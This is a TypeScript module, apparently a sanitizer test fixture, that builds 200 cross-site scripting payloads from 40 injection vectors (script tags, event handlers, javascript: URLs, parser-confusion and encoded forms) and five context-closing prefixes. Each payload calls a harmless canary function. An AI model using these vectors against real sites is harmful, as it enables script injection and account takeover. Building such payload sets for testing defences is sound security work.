/** What a script of a payload would call. */
export const hook = 'ownedBy'

const call = (number: number): string => `${hook}(${number})`

/** Ways to bring a script into a page, each with the call that it would make. */
const vectors: readonly ((call: string) => string)[] = [
  (own) => `<script>${own}</script>`,
  (own) => `<ScRiPt>${own}</sCrIpT>`,
  (own) => `<script src="data:text/javascript,${own}"></script>`,
  (own) => `<scr<script>ipt>${own}</scr</script>ipt>`,
  (own) => `<img src=x onerror=${own}>`,
  (own) => `<img src=x onerror="${own}"//>`,
  (own) => `<svg onload=${own}>`,
  (own) => `<svg><script>${own}</script></svg>`,
  (own) => `<svg><animate onbegin=${own} attributeName=x dur=1s>`,
  (own) => `<body onload=${own}>`,
  (own) => `<iframe src="javascript:${own}"></iframe>`,
  (own) => `<iframe srcdoc="<script>parent.${own}</script>"></iframe>`,
  (own) => `<a href="javascript:${own}">x</a>`,
  (own) => `<a href="java\tscript:${own}">x</a>`,
  (own) => `<form action="javascript:${own}"><button>x</button></form>`,
  (own) => `<button formaction="javascript:${own}">x</button>`,
  (own) => `<object data="javascript:${own}">`,
  (own) => `<embed src="javascript:${own}">`,
  (own) => `<math><mtext><table><mglyph><style><img src=x onerror=${own}>`,
  (own) => `<details open ontoggle=${own}>`,
  (own) => `<input autofocus onfocus=${own}>`,
  (own) => `<video><source onerror=${own}>`,
  (own) => `<marquee onstart=${own}>`,
  (own) => `<style>@import 'javascript:${own}';</style>`,
  (own) => `<link rel=stylesheet href="javascript:${own}">`,
  (own) => `<meta http-equiv=refresh content="0;url=javascript:${own}">`,
  (own) => `<base href="javascript:${own}//">`,
  (own) => `<template><img src=x onerror=${own}></template>`,
  (own) => `<noscript><p title="</noscript><img src=x onerror=${own}>">`,
  (own) => `<xmp><p title="</xmp><img src=x onerror=${own}>">`,
  (own) => `<!--><img src=x onerror=${own}>-->`,
  (own) => `<![CDATA[><img src=x onerror=${own}>]]>`,
  (own) => `\${${own}}`,
  (own) => `{{constructor.constructor('${own}')()}}`,
  (own) => `javascript:${own}`,
  (own) => `data:text/html,<script>${own}</script>`,
  (own) => `\\u003cscript\\u003e${own}\\u003c/script\\u003e`,
  (own) => `&lt;script&gt;${own}&lt;/script&gt;`,
  (own) => `%3Cscript%3E${own}%3C/script%3E`,
  (own) => `\u2028<script>${own}</script>\u2029`,
]

/** What ends that in which a text may stand: nothing, an attribute, an element, a script's text, JSON in a script. */
const ends: readonly string[] = ['', '">', "'>", '</script>', '"}]}</script>']

/** 200 texts, each another way to bring in a script. */
export const payloads: readonly string[] = ends.flatMap((end, at) =>
  vectors.map((vector, index) => `${end}${vector(call(at * vectors.length + index))}`),
)
